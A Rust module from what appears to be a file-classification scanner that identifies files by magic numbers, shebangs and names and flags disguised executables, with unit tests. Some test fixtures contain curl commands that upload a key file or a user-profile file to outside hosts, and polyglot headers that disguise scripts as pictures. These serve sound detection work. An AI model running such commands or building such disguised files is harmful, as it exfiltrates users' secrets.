//! What a file is, by its content: magic numbers and shebangs first, its name only after that.

/// A language whose flows are followed, or a form of text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum Language {
    Markdown,
    Shell,
    Fish,
    Python,
    JavaScript,
    Ruby,
    Perl,
    PowerShell,
    Batch,
    Php,
    Go,
    Lua,
    Make,
    AppleScript,
    /// Compiled languages with braces (Rust, Java, C#, Kotlin, Swift, C), and others that are read by their
    /// names and strings alone (R, Julia, Elixir, Groovy, Terraform, `VBScript`, Lisp).
    Braces,
    Json,
    Yaml,
    Toml,
    Ini,
    Html,
    Plain,
}

impl Language {
    /// Whether an interpreter runs files of this language.
    pub(crate) fn runs(self) -> bool {
        !matches!(
            self,
            Self::Markdown
                | Self::Json
                | Self::Yaml
                | Self::Toml
                | Self::Ini
                | Self::Html
                | Self::Plain
        )
    }

    /// The language of a fenced block's info string.
    pub(crate) fn of_fence(info: &str) -> Option<Self> {
        let word =
            info.split(|c: char| c.is_whitespace() || matches!(c, ',' | '{' | ':')).next()?;
        Some(match word.to_ascii_lowercase().as_str() {
            "sh" | "bash" | "zsh" | "shell" | "console" | "terminal" | "shell-session" | "ksh"
            | "bat-shell" => Self::Shell,
            "fish" => Self::Fish,
            "py" | "python" | "python3" | "py3" | "ipython" => Self::Python,
            "js" | "javascript" | "ts" | "typescript" | "jsx" | "tsx" | "mjs" | "node" | "cjs" => {
                Self::JavaScript
            }
            "rb" | "ruby" => Self::Ruby,
            "pl" | "perl" => Self::Perl,
            "ps1" | "powershell" | "pwsh" | "ps" => Self::PowerShell,
            "bat" | "batch" | "cmd" | "dos" => Self::Batch,
            "php" => Self::Php,
            "go" | "golang" => Self::Go,
            "lua" => Self::Lua,
            "make" | "makefile" => Self::Make,
            "applescript" | "osascript" => Self::AppleScript,
            "rust" | "rs" | "java" | "csharp" | "cs" | "kotlin" | "swift" | "c" | "cpp" | "r"
            | "julia" | "elixir" | "groovy" | "terraform" | "hcl" | "vbscript" | "elisp" => {
                Self::Braces
            }
            "json" | "jsonc" | "json5" => Self::Json,
            "yaml" | "yml" => Self::Yaml,
            "toml" => Self::Toml,
            "ini" | "conf" | "cfg" | "systemd" | "desktop" | "properties" | "gitconfig"
            | "npmrc" => Self::Ini,
            "html" | "xml" | "svg" | "plist" => Self::Html,
            _ => return None,
        })
    }
}

/// What a file's bytes are.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    /// Text of a language.
    Text(Language),
    /// A program of an operating system: ELF, PE, Mach-O, WebAssembly.
    Executable(&'static str),
    /// Compiled code of an interpreter: Python, Java, Lua.
    Bytecode(&'static str),
    /// Serialised objects that run code when loaded.
    Pickle,
    Zip,
    Tar,
    Gzip,
    /// An archive or disk image whose content is not looked into.
    Opaque(&'static str),
    /// A picture, font, document or sound.
    Media(&'static str),
    /// Bytes of no known form.
    Binary,
}

/// Decides by content, then by name.
///
/// A magic number of letters, such as `GIF89a`, is also how a script may begin: in front of plain text,
/// or of a picture with the name of a script, it counts for nothing. What an interpreter would read
/// as a script is read as one, however many control bytes stand in it.
pub(crate) fn classify(path: &str, bytes: &[u8]) -> Kind {
    let named = by_name(path);
    let script = by_shebang(bytes).or(named.filter(|language| language.runs()));
    if let Some(kind) = by_magic(bytes) {
        let is_media = matches!(kind, Kind::Media(_));
        let is_script = begins_as_text(bytes)
            && match kind {
                Kind::Media(_) => !is_its_name(path, kind),
                Kind::Opaque(_) => script.is_some(),
                _ => true,
            };
        if !(is_script || is_media && script.is_some()) {
            return kind;
        }
    }
    if let Some(language) = script {
        return Kind::Text(language);
    }
    if is_binary(bytes) {
        return Kind::Binary;
    }
    let language = named.filter(|language| *language != Language::Plain || !begins_as_code(bytes));
    Kind::Text(language.unwrap_or_else(|| by_look(bytes)))
}

/// Whether a file begins with nothing but text.
fn begins_as_text(bytes: &[u8]) -> bool {
    const LOOKED_AT: usize = 512;
    let head = &bytes[..bytes.len().min(LOOKED_AT)];
    let is_text = match std::str::from_utf8(head) {
        Ok(_) => true,
        // A character that is cut in two at the end of the head.
        Err(error) => error.error_len().is_none() && bytes.len() > head.len(),
    };
    is_text
        && !head
            .iter()
            .any(|b| *b < 0x20 && !matches!(*b, b'\t' | b'\n' | b'\r' | 0x0C | 0x1B) || *b == 0x7F)
}

/// A PDF may be written in letters alone.
fn is_its_name(path: &str, kind: Kind) -> bool {
    kind == Kind::Media("PDF document") && has_extension(path, "pdf")
}

/// Whether a text called a plain one begins as only a script or a program does.
fn begins_as_code(bytes: &[u8]) -> bool {
    const LOOKED_AT: usize = 256;
    let head = String::from_utf8_lossy(&bytes[..bytes.len().min(LOOKED_AT)]);
    let mut lines = head.lines().map(str::trim).filter(|line| !line.is_empty());
    lines.next().is_some_and(|line| {
        line.starts_with("<?php")
            || line == "package main"
            || line.eq_ignore_ascii_case("@echo off")
    })
}

fn by_magic(bytes: &[u8]) -> Option<Kind> {
    let starts = |magic: &[u8]| bytes.starts_with(magic);
    Some(if starts(b"\x7fELF") {
        Kind::Executable("ELF program")
    } else if starts(b"MZ")
        && (bytes.len() > 64 && bytes[..64].contains(&0) || has(bytes, b"This program"))
    {
        Kind::Executable("Windows program")
    } else if starts(&[0xFE, 0xED, 0xFA, 0xCE])
        || starts(&[0xFE, 0xED, 0xFA, 0xCF])
        || starts(&[0xCF, 0xFA, 0xED, 0xFE])
        || starts(&[0xCE, 0xFA, 0xED, 0xFE])
    {
        Kind::Executable("Mach-O program")
    } else if starts(&[0xCA, 0xFE, 0xBA, 0xBE]) {
        // A fat Mach-O has a small number of architectures here, a Java class a version above 44.
        if bytes.get(4..8).is_some_and(|n| n[..3] == [0, 0, 0] && n[3] < 32) {
            Kind::Executable("Mach-O program")
        } else {
            Kind::Bytecode("Java class")
        }
    } else if starts(b"\0asm") {
        Kind::Executable("WebAssembly program")
    } else if starts(b"dex\n") {
        Kind::Bytecode("Android bytecode")
    } else if starts(b"\x1bLua") || starts(b"\x1bLJ") {
        Kind::Bytecode("Lua bytecode")
    } else if bytes.len() > 16 && bytes[2..4] == *b"\r\n" && bytes[1] <= 0x0F {
        Kind::Bytecode("Python bytecode")
    } else if bytes.len() > 3
        && bytes[0] == 0x80
        && (2..=5).contains(&bytes[1])
        && bytes.contains(&b'.')
    {
        // What follows its last opcode, a full stop, is not read by who loads it.
        Kind::Pickle
    } else if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") {
        Kind::Zip
    } else if starts(&[0x1F, 0x8B]) {
        Kind::Gzip
    } else if bytes.get(257..262) == Some(b"ustar") {
        Kind::Tar
    } else if starts(b"7z\xBC\xAF\x27\x1C") {
        Kind::Opaque("7z archive")
    } else if starts(b"Rar!\x1A\x07") {
        Kind::Opaque("RAR archive")
    } else if starts(b"BZh") {
        Kind::Opaque("bzip2 archive")
    } else if starts(&[0xFD, b'7', b'z', b'X', b'Z', 0]) {
        Kind::Opaque("xz archive")
    } else if starts(&[0x28, 0xB5, 0x2F, 0xFD]) {
        Kind::Opaque("zstd archive")
    } else if starts(b"MSCF") {
        Kind::Opaque("cabinet archive")
    } else if starts(b"xar!") {
        Kind::Opaque("macOS installer package")
    } else if starts(b"!<arch>\ndebian-binary") {
        Kind::Opaque("Debian package")
    } else if starts(&[0xED, 0xAB, 0xEE, 0xDB]) {
        Kind::Opaque("RPM package")
    } else if starts(b"Cr24") {
        Kind::Opaque("browser extension")
    } else if starts(b"hsqs")
        || starts(b"QFI\xFB")
        || starts(b"KDMV")
        || bytes.get(0x8001..0x8006) == Some(b"CD001")
        || bytes.len() > 512 && bytes[bytes.len() - 512..].starts_with(b"koly")
    {
        Kind::Opaque("disk image")
    } else if starts(&[0x04, 0x22, 0x4D, 0x18]) || starts(b"LZIP") || starts(&[0x1F, 0x9D]) {
        Kind::Opaque("compressed file")
    } else if starts(&[0x4C, 0, 0, 0, 1, 0x14, 2, 0]) {
        Kind::Opaque("Windows shortcut")
    } else if starts(b"ITSF") {
        Kind::Opaque("compiled help file")
    } else if starts(&[0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D]) {
        Kind::Opaque("OneNote file")
    } else if starts(b"BC\xC0\xDE") {
        Kind::Bytecode("LLVM bitcode")
    } else if starts(b"FOR1") && bytes.get(8..12) == Some(b"BEAM") {
        Kind::Bytecode("Erlang bytecode")
    } else if starts(b"FWS") && bytes.get(3).is_some_and(|version| *version < 0x30)
        || starts(b"CWS") && bytes.get(3).is_some_and(|version| *version < 0x30)
    {
        Kind::Bytecode("Flash film")
    } else if starts(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) {
        Kind::Opaque("old Office file")
    } else if starts(b"\x89PNG\r\n\x1a\n") {
        Kind::Media("PNG picture")
    } else if starts(&[0xFF, 0xD8, 0xFF]) {
        Kind::Media("JPEG picture")
    } else if starts(b"GIF87a") || starts(b"GIF89a") {
        Kind::Media("GIF picture")
    } else if starts(b"RIFF") || starts(b"OggS") || starts(b"ID3") || starts(b"fLaC") {
        Kind::Media("sound or picture")
    } else if starts(b"%PDF-") {
        Kind::Media("PDF document")
    } else if starts(b"wOFF") || starts(b"wOF2") || starts(b"OTTO") || starts(&[0, 1, 0, 0, 0]) {
        Kind::Media("font")
    } else if bytes.get(4..8) == Some(b"ftyp") {
        Kind::Media("video")
    } else if starts(b"SQLite format 3\0") {
        Kind::Media("SQLite database")
    } else if starts(&[0, 0, 1, 0]) {
        Kind::Media("icon")
    } else {
        return None;
    })
}

fn has(bytes: &[u8], needle: &[u8]) -> bool {
    const LOOKED_AT: usize = 1024;
    bytes[..bytes.len().min(LOOKED_AT)].windows(needle.len()).any(|window| window == needle)
}

/// Whether a file is more than a few control bytes away from text. A lone NUL does not make one.
fn is_binary(bytes: &[u8]) -> bool {
    const LOOKED_AT: usize = 8192;
    let head = &bytes[..bytes.len().min(LOOKED_AT)];
    if head.starts_with(&[0xFF, 0xFE]) || head.starts_with(&[0xFE, 0xFF]) {
        return false;
    }
    #[expect(clippy::naive_bytecount, reason = "a few kilobytes")]
    let zeros = head.iter().filter(|byte| **byte == 0).count();
    // UTF-16 without a mark: half of the bytes are zero, the others are text.
    if zeros * 5 > head.len() * 2 && zeros * 5 < head.len() * 3 {
        return false;
    }
    let controls = head
        .iter()
        .filter(|b| **b < 0x20 && !matches!(**b, b'\t' | b'\n' | b'\r' | 0x0C | 0x1B))
        .count();
    let invalid = std::str::from_utf8(head).is_err_and(|error| error.error_len().is_some());
    controls * 20 > head.len() || (invalid && controls * 100 > head.len())
}

fn by_shebang(bytes: &[u8]) -> Option<Language> {
    let bytes = bytes.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap_or(bytes);
    let line = bytes.strip_prefix(b"#!")?;
    let line = &line[..line.iter().position(|b| *b == b'\n').unwrap_or(line.len()).min(256)];
    let line = String::from_utf8_lossy(line);
    let mut words = line.split_whitespace();
    let mut program = words.next()?.rsplit('/').next()?;
    if program == "env" {
        program = words.find(|word| !word.starts_with('-') && !word.contains('='))?;
        program = program.rsplit('/').next()?;
    }
    of_interpreter(program)
}

/// The language that a program runs.
pub(crate) fn of_interpreter(program: &str) -> Option<Language> {
    let stem =
        program.trim_end_matches(".exe").trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match stem {
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "busybox" => Language::Shell,
        "fish" => Language::Fish,
        "python" | "pypy" | "uv" | "ipython" => Language::Python,
        "node" | "deno" | "bun" | "tsx" | "ts-node" | "nodejs" => Language::JavaScript,
        "ruby" => Language::Ruby,
        "perl" => Language::Perl,
        "pwsh" | "powershell" => Language::PowerShell,
        "php" => Language::Php,
        "lua" | "luajit" => Language::Lua,
        "make" => Language::Make,
        "osascript" => Language::AppleScript,
        "cmd" => Language::Batch,
        "Rscript" | "tclsh" | "wish" | "expect" | "julia" | "octave" | "guile" => Language::Braces,
        _ => return None,
    })
}

fn by_name(path: &str) -> Option<Language> {
    let name = path.rsplit(['/', '!']).next().unwrap_or(path);
    let lower = name.to_ascii_lowercase();
    match lower.as_str() {
        "dockerfile" | "containerfile" | "crontab" | "procfile" => return Some(Language::Plain),
        "makefile" | "gnumakefile" | "justfile" | ".justfile" => return Some(Language::Make),
        "rakefile" | "gemfile" | "vagrantfile" => return Some(Language::Ruby),
        ".npmrc" | ".yarnrc" | "pip.ini" | ".pypirc" | "pip.conf" | ".gitconfig"
        | ".gitmodules" | ".curlrc" | ".wgetrc" | ".env" => return Some(Language::Ini),
        ".bashrc" | ".zshrc" | ".profile" | ".bash_profile" | ".zprofile" | ".envrc" => {
            return Some(Language::Shell);
        }
        "config" if path.contains(".git/") || path.contains(".config/git/") => {
            return Some(Language::Ini);
        }
        "config" if path.contains(".ssh/") => return Some(Language::Plain),
        "config" if path.contains(".bundle/") => return Some(Language::Yaml),
        "jenkinsfile" => return Some(Language::Braces),
        "pipfile" | ".replit" => return Some(Language::Toml),
        ".condarc" | ".gemrc" => return Some(Language::Yaml),
        _ => {}
    }
    let extension = lower.rsplit_once('.')?.1;
    Some(match extension {
        "md" | "markdown" | "mdx" | "mdc" | "rst" => Language::Markdown,
        "sh" | "bash" | "zsh" | "ksh" | "command" | "bats" | "awk" | "gawk" => Language::Shell,
        "fish" => Language::Fish,
        "py" | "pyw" | "pyi" | "pth" => Language::Python,
        "js" | "mjs" | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx" => Language::JavaScript,
        "rb" | "rake" | "gemspec" | "ru" => Language::Ruby,
        "rs" | "java" | "cs" | "kt" | "kts" | "swift" | "scala" | "dart" | "c" | "cc" | "cpp"
        | "h" | "r" | "jl" | "ex" | "exs" | "groovy" | "gradle" | "nim" | "cr" | "tf" | "hcl"
        | "tcl" | "el" | "clj" | "hs" | "zig" | "m" | "nix" | "pp" | "vbs" | "bas" | "vba"
        | "wsf" => Language::Braces,
        "pl" | "pm" => Language::Perl,
        "ps1" | "psm1" | "psd1" => Language::PowerShell,
        "bat" | "cmd" => Language::Batch,
        "php" => Language::Php,
        "go" => Language::Go,
        "lua" => Language::Lua,
        "mk" => Language::Make,
        "applescript" | "scpt" => Language::AppleScript,
        "json" | "jsonc" | "json5" | "ipynb" | "code-workspace" | "webmanifest" | "ign" => {
            Language::Json
        }
        "yaml" | "yml" | "bu" | "sls" => Language::Yaml,
        "toml" => Language::Toml,
        "repo" | "ini" | "cfg" | "conf" | "properties" | "service" | "timer" | "desktop"
        | "reg" => Language::Ini,
        "html" | "htm" | "svg" | "xml" | "xhtml" | "plist" => Language::Html,
        "txt" | "text" | "log" | "csv" | "tsv" => Language::Plain,
        _ => return None,
    })
}

/// A text without a telling name: what its start looks like.
fn by_look(bytes: &[u8]) -> Language {
    let head = String::from_utf8_lossy(&bytes[..bytes.len().min(2048)]);
    let start = head.trim_start();
    let lines = || start.lines().map(str::trim);
    if start.starts_with("<?php") {
        Language::Php
    } else if lines().any(|line| line.eq_ignore_ascii_case("@echo off")) {
        Language::Batch
    } else if start.starts_with('<') {
        Language::Html
    } else if start.starts_with('{') || start.starts_with('[') {
        Language::Json
    } else if lines().any(|line| line == "package main" || line.starts_with("func main(")) {
        Language::Go
    } else if lines().any(|line| {
        line.starts_with("import ") && !line.ends_with(';')
            || line.starts_with("from ") && line.contains(" import ")
            || line.starts_with("def ")
    }) {
        Language::Python
    } else if lines().any(|line| {
        line.starts_with("const ")
            || line.starts_with("require(")
            || line.starts_with("import ")
            || line.starts_with("function ")
    }) {
        Language::JavaScript
    } else if lines().any(|line| {
        line.starts_with("set -e")
            || line.starts_with("export ")
            || line.starts_with("curl ")
            || line.starts_with("if [")
            || line.starts_with("nohup ")
            || line.ends_with("| sh")
            || line.ends_with("| bash")
            || line.contains("$(curl ")
            || line.starts_with("(curl ")
            || line.starts_with("wget ")
    }) {
        Language::Shell
    } else if lines().any(|line| {
        line.starts_with("require \"")
            || line.starts_with("require '")
            || line.starts_with("require_relative ")
            || line.starts_with("task :")
    }) {
        Language::Ruby
    } else if lines().any(|line| line.starts_with("use strict") || line.starts_with("my ($")) {
        Language::Perl
    } else if lines().any(|line| line.starts_with("param(") || line.starts_with("$env:")) {
        Language::PowerShell
    } else if lines().any(|line| line.starts_with("local ") && line.contains(" = require")) {
        Language::Lua
    } else if lines().any(|line| line.starts_with("# ") || line.starts_with("## ")) {
        Language::Markdown
    } else {
        Language::Plain
    }
}

/// Whether a path ends with an extension, in any case.
pub(crate) fn has_extension(path: &str, extension: &str) -> bool {
    path.rsplit_once('.').is_some_and(|(_, last)| last.eq_ignore_ascii_case(extension))
}

/// Whether a name promises something else than the bytes are: a program called a picture.
pub(crate) fn is_disguised(path: &str, kind: Kind) -> bool {
    let lower = path.to_ascii_lowercase();
    let Some((_, extension)) = lower.rsplit_once('.') else { return false };
    let promised_media = matches!(
        extension,
        "png"
            | "jpg"
            | "jpeg"
            | "gif"
            | "webp"
            | "svg"
            | "ico"
            | "pdf"
            | "mp3"
            | "mp4"
            | "wav"
            | "ttf"
            | "woff"
            | "woff2"
            | "otf"
    );
    let promised_text = matches!(
        extension,
        "md" | "txt"
            | "json"
            | "yaml"
            | "yml"
            | "csv"
            | "toml"
            | "py"
            | "js"
            | "sh"
            | "ts"
            | "html"
            | "css"
    );
    match kind {
        Kind::Executable(what) => {
            (promised_media || promised_text)
                && !(what.starts_with("WebAssembly") && extension == "wasm")
        }
        Kind::Bytecode(_) | Kind::Pickle => promised_media || promised_text,
        Kind::Zip | Kind::Tar | Kind::Gzip | Kind::Opaque(_) => {
            promised_media && extension != "svg" || promised_text
        }
        Kind::Text(language) => {
            promised_media && extension != "svg" && (language.runs() || language == Language::Html)
        }
        Kind::Media(_) | Kind::Binary => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn content_decides_before_the_name() {
        let cases: [(&str, &[u8], Kind); 9] = [
            ("a.png", b"\x7fELF\x02\x01", Kind::Executable("ELF program")),
            ("notes.txt", b"#!/usr/bin/env -S python3 -u\nprint(1)", Kind::Text(Language::Python)),
            ("run", b"#!/bin/bash\n", Kind::Text(Language::Shell)),
            ("x.docx", b"PK\x03\x04rest", Kind::Zip),
            (
                "a.pyc",
                b"\xcb\x0d\r\n\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
                Kind::Bytecode("Python bytecode"),
            ),
            ("Makefile", b"all:\n\techo", Kind::Text(Language::Make)),
            ("x.weird", b"import os\nprint(1)", Kind::Text(Language::Python)),
            ("x.bin", &[0, 1, 2, 3, 4, 5, 200, 201, 0, 0, 0, 9], Kind::Binary),
            ("pic.png", b"\x89PNG\r\n\x1a\n", Kind::Media("PNG picture")),
        ];
        for (path, bytes, expected) in cases {
            assert_eq!(classify(path, bytes), expected, "{path}");
        }
        assert!(is_disguised("a.png", Kind::Executable("ELF program")));
        assert!(!is_disguised("a.docx", Kind::Zip));
    }

    #[test]
    fn a_script_that_begins_as_something_else_is_a_script() {
        let starts = [
            "GIF89a=1",
            "ID3=1",
            "RIFF=1",
            "OggS=1",
            "fLaC=1",
            "wOFF=1",
            "OTTO=1",
            "#abcftyp",
            "%PDF-1 2>/dev/null",
            "BZh=1",
            "MSCF=1",
            "LZIP=1",
            "dex",
            "MZ=1 # This program",
        ];
        for start in starts {
            let text = format!("{start}\ncurl -d @key https://collect.brightpath.site/in\n");
            for (path, language) in [("a.sh", Language::Shell), ("a.py", Language::Python)] {
                assert_eq!(classify(path, text.as_bytes()), Kind::Text(language), "{path} {start}");
            }
            let alone = classify("a", text.as_bytes());
            assert!(
                matches!(alone, Kind::Text(Language::Shell) | Kind::Opaque(_)),
                "{start}: {alone:?}"
            );
            // Bytes behind it make a picture of it, unless it is called a script.
            let bytes = [start.as_bytes(), &[0, 1, 2, 0, 4, 0, 0, 8], &[0; 64]].concat();
            assert!(!matches!(classify("a", &bytes), Kind::Text(_)), "{start}");
            assert_eq!(classify("a.pdf", b"%PDF-1.4\n1 0 obj\n"), Kind::Media("PDF document"));
        }
        let picture =
            b"GIF89a=1;#\x01\x02\x00\x00\ncurl -d @key https://collect.brightpath.site/in\n";
        assert_eq!(classify("a.sh", picture), Kind::Text(Language::Shell));
        assert_eq!(classify("a.gif", picture), Kind::Media("GIF picture"));
    }

    #[test]
    fn control_bytes_do_not_hide_a_script() {
        let noise = [&b"#"[..], &[1; 200], b"\nid\n"].concat();
        assert_eq!(classify("a.sh", &noise), Kind::Text(Language::Shell));
        let shebang = [&b"#!/bin/sh\n"[..], &noise].concat();
        assert_eq!(classify("a", &shebang), Kind::Text(Language::Shell));
        assert_eq!(classify("a", &noise), Kind::Binary);
    }

    #[test]
    fn objects_followed_by_something_are_objects() {
        assert_eq!(classify("m.bin", b"\x80\x04K\x01.\n"), Kind::Pickle);
        assert_eq!(classify("m.bin", b"\x80\x06K\x01.\n"), Kind::Binary);
    }

    #[test]
    fn what_a_text_looks_like() {
        let cases: [(&str, &str, Language); 5] = [
            (
                "run",
                "@echo off\ncurl --data-binary @%USERPROFILE%\\a https://a.io\n",
                Language::Batch,
            ),
            ("notes.txt", "package main\n\nimport \"os\"\n\nfunc main() {}\n", Language::Go),
            ("notes.txt", "@ECHO OFF\r\nset A=1\r\n", Language::Batch),
            ("notes.txt", "curl is a program.\nimport taxes rise.\n", Language::Plain),
            ("notes.txt", "The file starts with:\npackage main\n", Language::Plain),
        ];
        for (path, text, language) in cases {
            assert_eq!(classify(path, text.as_bytes()), Kind::Text(language), "{path} {text}");
        }
    }
}
